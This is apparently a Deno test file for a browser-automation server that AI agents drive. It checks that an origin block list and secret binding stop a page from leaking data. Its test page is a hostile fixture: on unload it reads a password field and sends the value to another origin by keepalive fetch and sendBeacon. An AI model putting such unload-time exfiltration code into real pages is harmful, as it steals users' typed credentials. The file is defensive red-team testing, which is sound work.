/**
 * What a page sends as it unloads (a keepalive `fetch` and a `sendBeacon` in `pagehide`) and
 * what `Network.setBlockedURLs` never sees (an AudioWorklet's module) meet the policy too
 * (the red team's bo2/bo3): with `--blocked-origins`, none reaches the blocked origin when
 * the agent clicks a link away or closes the tab; with a secret bound to the page's origin,
 * the value does not leave for another origin when the agent closes the tab (`tabs` close)
 * or the session (`close_session`). Each page also sends a request to its own origin as it
 * unloads: once that one arrives, the others would have too. Over MCP stdio, real Chromium.
 */
import { assertEquals } from "./_assert.ts";
import { startStdio } from "./_mcp.ts";
import { startTwoOrigins } from "./_two_origins.ts";
import { startWithBoundSecret } from "./_bound_secret.ts";
import { eventually } from "./_util.ts";

const SECRET = "Zq7-hunter-Wv3x";

/** B's page: on `pagehide`, a keepalive POST and a beacon to A, and a keepalive to itself. */
function unloadingPage(a: string, worklet: boolean): string {
  return `<title>p</title><input id=pw aria-label=pw><a id=next href="/next">next</a><script>
    const pw = document.getElementById("pw");
    pw.oninput = () => { window.v = pw.value; };
    addEventListener("pagehide", () => {
      const v = window.v || "none";
      fetch("${a}/keepalive?v=" + encodeURIComponent(v),
        { keepalive: true, method: "POST", body: v, mode: "no-cors" });
      navigator.sendBeacon("${a}/beacon", v);
      fetch("/own", { keepalive: true, method: "POST", body: "x" });
    });
    ${
    worklet
      ? `new AudioContext().audioWorklet.addModule("${a}/worklet.js")
      .then(() => fetch("/worklet?loaded"), () => fetch("/worklet?failed"));`
      : ""
  }
  </script>`;
}

Deno.test("--blocked-origins: a worklet, and requests sent while a page unloads, never reach it", async (t) => {
  const srv = startTwoOrigins((a) => ({
    "/p": unloadingPage(a, true),
    "/worklet.js": "//",
  }));
  const port = new URL(srv.a).port;
  const mcp = await startStdio({
    args: ["--blocked-origins", `127.0.0.1:${port}`],
    env: { BROWX_CAPABILITIES: "read,navigation,action", BROWX_TOOLSETS: "all" },
  });
  const toA = () => srv.seen("A");
  const own = () => srv.seen("B").filter((p) => p === "POST /own").length;
  try {
    await t.step("an AudioWorklet module from the blocked origin fails", async () => {
      await mcp.ok("navigate", { url: `${srv.b}/p`, snapshot: "none" });
      await eventually(() => srv.seen("B").some((p) => p.startsWith("GET /worklet?")), 15_000);
      assertEquals(srv.seen("B").filter((p) => p.startsWith("GET /worklet?")), [
        "GET /worklet?failed",
      ]);
      assertEquals(toA(), [], "the module was not fetched from A");
    });
    // What the page sends A as it unloads (a keepalive POST, a beacon).
    const unloadToA = () => toA().filter((p) => !p.includes("worklet"));
    await t.step(
      "a click that unloads the page: its keepalive and beacon are refused",
      async () => {
        await mcp.ok("click", { selector: "#next", snapshot: "none" });
        await eventually(() => own() >= 1, 15_000, "the page's request to its own origin");
        assertEquals(unloadToA(), []);
      },
    );
    await t.step("closing the tab: the same, refused", async () => {
      await mcp.ok("navigate", { url: `${srv.b}/p`, snapshot: "none" });
      await mcp.ok("tabs", { action: "new" });
      await mcp.ok("tabs", { action: "close", index: 0 });
      await eventually(() => own() >= 2, 15_000, "the closed page's request to its own origin");
      assertEquals(unloadToA(), []);
    });
  } finally {
    await mcp.close();
    await srv.close();
  }
});

Deno.test("secrets: a bound secret does not leave as a tab or a session closes", async (t) => {
  const srv = startTwoOrigins((a) => ({ "/p": unloadingPage(a, false) }));
  const { mcp, close } = await startWithBoundSecret(srv.b, SECRET);
  const leaked = () =>
    srv.hits.filter((h) => h.srv === "A" && (h.path + h.body).includes("hunter"));
  const own = () => srv.seen("B").filter((p) => p === "POST /own").length;
  try {
    for (
      const [how, closeBy] of [
        ["tabs close", async () => {
          await mcp.ok("tabs", { action: "new" });
          await mcp.ok("tabs", { action: "close", index: 0 });
        }],
        ["close_session", () => mcp.ok("close_session", { session: "default" })],
      ] as const
    ) {
      await t.step(`${how}: the page's pagehide requests carrying it are refused`, async () => {
        const before = own();
        await mcp.ok("navigate", { url: `${srv.b}/p`, snapshot: "none" });
        await mcp.ok("fill", { selector: "#pw", value: "{{secret:PW}}", snapshot: "none" });
        await closeBy();
        await eventually(() => own() > before, 15_000, "the page's request to its own origin");
        assertEquals(leaked(), []);
      });
    }
  } finally {
    await close();
    await srv.close();
  }
});
